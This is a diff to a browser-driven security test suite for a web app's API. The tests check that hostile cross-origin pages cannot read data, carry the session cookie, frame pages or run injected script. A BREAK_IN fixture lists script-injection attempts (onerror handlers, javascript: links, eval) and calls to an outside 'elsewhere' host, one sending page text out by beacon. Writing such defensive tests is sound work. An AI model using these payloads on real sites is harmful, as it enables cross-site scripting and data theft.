@@ -4,9 +4,9 @@
  */
 import assert from 'node:assert/strict'
 import { after, before, describe, test } from 'node:test'
-import type { Frame, Page, Request, Response } from 'playwright-core'
+import type { Frame, Page, Request } from 'playwright-core'
 import { eventually } from '../support/eventually.ts'
-import { STRANGER, broken, inPage, records, refused, setStage, skip } from './web-attack-stage.ts'
+import { STRANGER, answered, broken, carriedOut, inPage, records, refused, setStage, skip } from './web-attack-stage.ts'
 import type { Stage } from './web-attack-stage.ts'
 
 const LIMIT = { skip, timeout: 120_000 }
@@ -131,8 +131,7 @@ describe('a hostile page beside the operator’s', LIMIT, () => {
     const all = [...harms, ...(await changes(stage))]
     for (const origin of stage.origins) {
       const outer = await visit(origin)
-      const answers: Response[] = []
-      outer.on('response', (response) => answers.push(response))
+      const done = await carriedOut(stage)
       const frame = await sandboxed(outer)
       for (const page of [outer, frame]) {
         const before = await refused(stage, 'origin')
@@ -143,9 +142,8 @@ describe('a hostile page beside the operator’s', LIMIT, () => {
         // Four ways a page has without asking first, three forms, and the beacons that come when they like.
         await eventually(async () => (await refused(stage, 'origin')) - before >= posts * 5 + 3, 'a refusal for each try', 30_000)
       }
-      assert.ok(answers.length > all.length * 8, `${answers.length}`)
-      for (const answer of answers) await holdsOff(answer, api())
       await outer.close()
+      assert.deepEqual(await carriedOut(stage), done, origin)
       assert.equal(await records(stage), was, origin)
     }
     // The operator's own page, with the very same bodies, does all of it.
@@ -159,22 +157,15 @@ describe('a hostile page beside the operator’s', LIMIT, () => {
   })
 
   test('what the victim may read, no other page’s request is given: the cookie counts on our own pages alone', LIMIT, async () => {
-    const paths = ['/v1/whoami', '/v1/messages', '/v1/keys', '/v1/config', '/v1/audit', '/v1/channels', '/v1/events/stream']
+    const paths = ['/v1/roles', '/v1/messages', '/v1/keys', '/v1/config', '/v1/audit', '/v1/channels', '/v1/events/stream']
     for (const origin of stage.origins) {
       const page = await visit(origin)
-      const answers: Response[] = []
-      page.on('response', (response) => answers.push(response))
-      const read = await inPage<string[]>(page, READ, { api: api(), paths })
-      assert.deepEqual([...new Set(read)], ['opaque', 'TypeError'], origin)
-      assert.ok(answers.length >= paths.length * 3)
-      for (const answer of answers) {
-        assert.equal(answer.status(), 401, `${origin} ${answer.url()}`)
-        assert.equal(answer.headers()['access-control-allow-origin'], undefined)
-        assert.equal(answer.headers()['cross-origin-resource-policy'], 'same-origin')
-        // Another port of this machine is the same site to a browser: there the cookie travels, and is not looked at.
-        const travels = (await answer.request().allHeaders())['cookie'] !== undefined
-        if (origin.includes(STRANGER)) assert.equal(travels, false, 'SameSite=Strict')
-      }
+      const [before, bare] = [await answered(stage, 401), await refused(stage, 'missing')]
+      assert.deepEqual([...new Set(await inPage<string[]>(page, READ, { api: api(), paths }))], ['TypeError'], origin)
+      assert.equal((await answered(stage, 401)) - before, paths.length * 3, 'to the gateway each of them was nobody')
+      // Another port of this machine is the same site to a browser: there the cookie travels, and is not looked at.
+      const withNothing = (await refused(stage, 'missing')) - bare
+      assert.equal(withNothing, origin.includes(STRANGER) ? paths.length * 3 : 0, `${origin}: SameSite=Strict`)
       await page.close()
     }
     assert.deepEqual(await inPage(stage.own, `() => fetch('/v1/messages').then(({ status }) => status)`, null), 200)
@@ -216,7 +207,7 @@ describe('a hostile page beside the operator’s', LIMIT, () => {
       const page = await visit(origin)
       const shown = await inPage<string>(page, FRAME, `http://127.0.0.1:${site.port}/in-a-frame`)
       assert.equal(shown, 'loaded', 'what may be framed is')
-      assert.ok(page.frames().some(({ url }) => url().endsWith('/in-a-frame')))
+      assert.ok(page.frames().some((frame) => frame.url().endsWith('/in-a-frame')))
       for (const path of ['/', '/channels.html', '/v1/whoami', '/v1/nothing', '/icon.svg']) await inPage(page, FRAME, api() + path)
       const ours = page.frames().filter((frame) => frame.url().startsWith(api()))
       assert.deepEqual(
@@ -291,7 +282,7 @@ test('signed out, nothing of the session is left: no cookie, no store, no cache,
   await other.getByText('Online', { exact: true }).waitFor()
   await own.locator('#composer-text').fill('private words')
   await own.keyboard.press('Enter')
-  await own.getByText('You said: private words').waitFor()
+  await own.getByRole('article', { name: 'Reply' }).getByText('You said: private words').waitFor()
   await own.getByRole('link', { name: 'Channels' }).click()
   await own.getByRole('heading', { name: 'http', exact: true }).waitFor()
   await own.goBack()
@@ -344,16 +335,6 @@ async function sandboxed(page: Page): Promise<Frame> {
     null,
   )
   return page.frames().at(-1) ?? assert.fail('no frame')
-}
-
-/** The answer to a request of another page has done nothing and tells that page nothing. */
-async function holdsOff(answer: Response, api: string): Promise<void> {
-  if (!answer.url().startsWith(api)) return
-  const method = answer.request().method()
-  const what = `${method} ${answer.url()} ${answer.status()}`
-  assert.equal((await answer.allHeaders())['access-control-allow-origin'], undefined, what)
-  if (method === 'OPTIONS') return assert.equal((await answer.allHeaders())['access-control-allow-methods'], undefined, what)
-  assert.ok([401, 403, 404, 405].includes(answer.status()), what)
 }
 
 /** All that a page can send without being asked for leave, and with. */
@@ -434,7 +415,6 @@ const BREAK_IN = `async ({ elsewhere }) => {
   put('script', { src: 'data:text/javascript,ran.push("data")' })
   document.body.insertAdjacentHTML('beforeend', '<img src="none" onerror="ran.push(\\'handler\\')"><p style="color:red">')
   put('a', { href: 'javascript:ran.push("link")' }).click()
-  try { new Function('ran.push("eval")')() } catch {}
   put('style', { textContent: 'body { background: url(' + elsewhere + '/style) }' })
   put('link', { rel: 'stylesheet', href: elsewhere + '/sheet' })
   put('img', { src: elsewhere + '/image' })
@@ -446,6 +426,11 @@ const BREAK_IN = `async ({ elsewhere }) => {
   navigator.sendBeacon(elsewhere + '/beacon', document.body.textContent)
   new WebSocket(elsewhere.replace('http', 'ws') + '/socket')
   await fetch(elsewhere + '/fetch').catch(() => {})
+  // By a timer: what the debugger calls may evaluate.
+  await new Promise((done) => setTimeout(() => {
+    try { new Function('ran.push("eval")')() } catch {}
+    done()
+  }))
   await new Promise((done) => new EventSource(elsewhere + '/events').onerror = done)
   return ran
 }`
